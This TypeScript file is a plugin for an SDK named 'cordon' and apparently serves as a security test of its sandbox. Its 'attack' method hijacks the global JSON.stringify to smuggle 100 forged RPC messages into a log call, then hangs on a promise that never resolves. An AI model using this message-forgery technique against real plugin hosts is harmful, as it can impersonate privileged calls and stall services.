import type { PluginContext } from "@cordon/cordon/sdk";

const { stringify } = JSON;

/** Sends a text in the place of a message. */
function send(ctx: PluginContext, text: string) {
  JSON.stringify = () => {
    JSON.stringify = stringify;
    return text;
  };
  ctx.log.info("carrier");
}

export const activate = (ctx: PluginContext): unknown => ({
  attack() {
    for (let id = 0; id < 100; id++) {
      send(
        ctx,
        `[{"type":"call","id":${
          900 + id
        },"method":"call","params":["witness","wait",[null]]},[],[[["params",2,0],${id}]]]`,
      );
    }
    return new Promise<string>(() => {});
  },
});
